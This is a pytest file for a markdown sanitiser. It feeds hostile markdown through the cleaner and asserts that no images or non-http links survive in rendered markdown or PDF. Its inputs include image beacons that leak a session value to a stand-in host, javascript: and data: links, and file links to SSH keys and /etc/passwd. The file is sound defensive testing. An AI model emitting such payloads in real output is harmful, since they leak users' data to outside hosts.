"""Markdown from the model or a page is parsed and written again with nothing live in it
(modules/text/sanitize.py ``safe_markdown``; issue 49 item 2).

Each text is rendered afterwards the way a reader's viewer would: markdown-it with its
defaults (raw HTML on, as most viewers have it) and with every URL accepted (as a less
careful renderer would). No ``<img`` may appear at all and every ``href`` must be http(s).
"""

from __future__ import annotations

import re
import sys
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

sys.path.insert(0, str(Path(__file__).parent))
from test_report_markdown import make_input  # noqa: E402

from research.modules.report.content import build_report, parse_blocks  # noqa: E402
from research.modules.report.markdown import render_markdown  # noqa: E402
from research.modules.report.pdf import render_pdf  # noqa: E402
from research.modules.text.sanitize import safe_markdown  # noqa: E402

LEAK = "https://evil.example/p.png?leak=SESSION"

# The forms issue 49 found live after the pattern-based sanitiser.
ISSUE_FORMS = [
    f"![x][r]\n\n[r]: {LEAK}",
    f"A shortcut ![r] image.\n\n[r]: {LEAK}",
    f"![x][r]\n\n[r]: <{LEAK}> 'title'",
    "![x](https://evil.example/i.png 'title')",
    "![x](https://evil.example/i.png (title))",
    '![x](<https://evil.example/i.png> "title")',
    "[a [b] c](javascript:alert(1))",
    "[x](javascript:a((1)))",
    "[x](javascript:alert(1) 'title')",
    "[x][j]\n\n[j]: javascript:alert(1)",
    "[x][f]\n\n[f]: file:///home/me/.ssh/id_rsa",
    "<javascript:alert(1)> <mailto:me@example.org> <file:///etc/passwd>",
    "[a [b](javascript:x) c](javascript:y)",
    "[![pixel](https://evil.example/pixel.png)](https://example.org/ok)",
    "![outer ![inner](https://evil.example/in.png)](https://evil.example/out.png)",
    "> quoted ![q](https://evil.example/q.png)\n>\n> [r]: javascript:alert(1)\n\n- item ![i][r] [j][r]\n\n[r]: " + LEAK,
    "| a | b |\n|---|---|\n| ![t](https://evil.example/t.png) | [j](javascript:alert(1)) |",
    "Text <img src=https://evil.example/h.png> and <a href=\"javascript:alert(1)\">x</a>",
    "[x](JaVaScRiPt:alert(1)) [y](java\tscript:alert(1)) [z](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox) [rel](/relative/path) [proto](//evil.example/x)",
]

# A sample of CommonMark's examples for links (§6.3) and images (§6.4), written after the
# CommonMark spec 0.31.2 (https://spec.commonmark.org/0.31.2/): each is tried as written
# and with every destination made remote and made javascript:.
SPEC_EXAMPLES = [
    '[link](/uri "title")', "[link](/uri)", "[](./target.md)", "[link]()", "[link](<>)", "[]()",
    "[link](/my uri)", "[link](</my uri>)", "[link](foo\nbar)", "[a](<b)c>)", "[link](\\(foo\\))",
    "[link](foo(and(bar)))", "[link](foo\\(and\\(bar\\))", "[link](<foo(and(bar)>)", "[link](foo\\)\\:)",
    "[link](#fragment)\n\n[link](https://example.com#fragment)", "[link](foo\\bar)", "[link](foo%20b&auml;)",
    '[link]("title")', "[link](/url \"title\")\n[link](/url 'title')\n[link](/url (title))",
    '[link](/url "title \\"&quot;")', '[link](   /uri\n  "title"  )', "[link [foo [bar]]](/uri)",
    "[link] bar](/uri)", "[link [bar](/uri)", "[link \\[bar](/uri)", "[link *foo **bar** `#`*](/uri)",
    "[![moon](moon.jpg)](/uri)", "[foo [bar](/uri)](/uri)", "[foo *[bar [baz](/uri)](/uri)*](/uri)",
    "![[[foo](uri1)](uri2)](uri3)", "*[foo*](/uri)", "[foo *bar](baz*)", '[foo <bar attr="](baz)">',
    "[foo`](/uri)`", "[foo<https://example.com/?search=](uri)>", '[foo][bar]\n\n[bar]: /url "title"',
    "[link [foo [bar]]][ref]\n\n[ref]: /uri", "[foo][BaR]\n\n[bar]: /url", "[foo] [bar]\n\n[bar]: /url \"title\"",
    "[foo][]\n\n[foo]: /url \"title\"", "[foo]\n\n[foo]: /url \"title\"", "[*foo* bar]\n\n[*foo* bar]: /url",
    "[foo][bar][baz]\n\n[baz]: /url1\n[bar]: /url2", "[foo](not a link)\n\n[foo]: /url1",
    '![foo](/url "title")', '![foo *bar*]\n\n[foo *bar*]: train.jpg "train & tracks"',
    "![foo ![bar](/url)](/url2)", "![foo [bar](/url)](/url2)", '![foo *bar*][foobar]\n\n[FOOBAR]: train.jpg "t"',
    "![foo](train.jpg)", 'My ![foo bar](/path/to/train.jpg  "title"   )', "![foo](<url>)", "![](/url)",
    "![foo][bar]\n\n[bar]: /url", '![foo][]\n\n[foo]: /url "title"', '![*foo* bar][]\n\n[*foo* bar]: /url "title"',
    '![foo] \n[]\n\n[foo]: /url "title"', '![[foo]]\n\n[[foo]]: /url "title"', '!\\[foo]\n\n[foo]: /url "title"',
    '\\![foo]\n\n[foo]: /url "title"', "<https://foo.bar.baz/test?q=hello&id=22&boolean>", "<made-up-scheme://foo,bar>",
    "<foo@bar.example.com>", "<localhost:5001/foo>", "[foo](<https://evil.example/x.png>)\n\n![a](data:image/png;base64,AAAA)",
]
_DESTINATIONS = re.compile(r"(/uri|/url\d?|/my uri|train\.jpg|moon\.jpg|uri\d|/path/to/train\.jpg|\./target\.md|baz)")


def _variants(example: str) -> list[str]:
    return [example, _DESTINATIONS.sub(LEAK, example), _DESTINATIONS.sub("javascript:alert(1)", example)]


VIEWERS = [MarkdownIt("commonmark"), MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])]
_trusting = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
_trusting.validateLink = lambda url: True  # a renderer that links any scheme
VIEWERS.append(_trusting)


def assert_inert(markdown: str) -> None:
    for viewer in VIEWERS:
        html = viewer.render(markdown)
        assert "<img" not in html, (markdown, html)
        for href in re.findall(r'href="([^"]*)"', html):
            assert href.startswith(("http://", "https://")), (markdown, href)


@pytest.mark.parametrize("markdown", ISSUE_FORMS)
def test_the_forms_issue_49_found_are_inert(markdown: str) -> None:
    cleaned = safe_markdown(markdown)
    assert_inert(cleaned)
    assert "evil.example/p.png" not in cleaned  # the image and its definition are gone, URL and all
    assert safe_markdown(cleaned) == cleaned  # written once, it stays as it is


@pytest.mark.parametrize("markdown", [v for example in SPEC_EXAMPLES for v in _variants(example)])
def test_commonmark_link_and_image_examples_are_inert(markdown: str) -> None:
    assert_inert(safe_markdown(markdown))


def test_what_a_reader_needs_is_kept() -> None:
    text = ("Mount Fuji is 3,776 m high [S1]. See [the survey](https://www.gsi.go.jp/ \"GSI\") and "
            "![the summit](https://evil.example/s.png).\n\n[S2]: https://example.org/also")
    cleaned = safe_markdown(text)
    # The citation stays a citation, the web link an inline link, the image its alt text.
    assert cleaned == "Mount Fuji is 3,776 m high [S1]. See [the survey](<https://www.gsi.go.jp/>) and the summit."
    japanese = safe_markdown("[富士山](https://ja.wikipedia.org/wiki/富士山)の標高は3,776メートル [S1]。")
    assert japanese == "[富士山](<https://ja.wikipedia.org/wiki/富士山>)の標高は3,776メートル [S1]。"


def test_markdown_with_nothing_live_is_kept_as_written() -> None:
    text = ("# 富士山\n\n1. What\n    - `q` (en)\n2. Next *one*\n\n> quote a < b\n\n"
            "| a | b |\n| :-- | --: |\n| 1 | 2 |\n\n```html\n<b>code</b>\n```\n\n---\n\nlast [S1]\n\n")
    assert safe_markdown(text) == text


def test_nesting_that_never_settles_is_written_with_every_bracket_escaped() -> None:
    nested = "x"
    for depth in range(12):  # each pass of the rebuild removes one level
        nested = f"[a{depth} {nested} b](javascript:alert({depth}))"
    cleaned = safe_markdown(nested)
    assert_inert(cleaned)
    assert "a0" in cleaned and "a11" in cleaned and not re.search(r"(?<!\\)\]\(javascript", cleaned)


def test_report_md_and_pdf_show_images_as_text(tmp_path: Path) -> None:
    body = ("## 概要\n\n富士山の標高は3,776メートルです [S1]。![x][r] ![y](https://evil.example/i.png 'title') "
            f"[a [b] c](javascript:alert(1)) [x](javascript:a((1)))\n\n[r]: {LEAK}\n")
    doc = build_report(make_input(body_markdown=body))
    markdown = render_markdown(doc)
    assert_inert(markdown)
    assert "evil.example" not in markdown and "3,776" in markdown
    # The PDF is typeset from parsed blocks: an image there is its alt text, with no link.
    spans = [span for block in parse_blocks(body) for span in getattr(block, "spans", [])]
    assert any(span.text == "x" and span.href is None for span in spans)
    assert not any(span.href and "evil.example" in span.href for span in spans)
    target = tmp_path / "report.pdf"
    render_pdf(doc, target)
    pdf = target.read_bytes()
    assert b"evil.example" not in pdf and b"javascript" not in pdf and b"/Subtype /Image" not in pdf


@pytest.mark.parametrize("language", ["ja", "en"])
def test_a_written_report_passes_through_unchanged(language: str) -> None:
    # The MCP session-report tool sends safe_markdown(report.md); the API sends the file:
    # both must read the same (a source URL with brackets included).
    report = render_markdown(build_report(make_input(language=language)))
    assert "fuji%20[1]" in report
    assert safe_markdown(report) == report
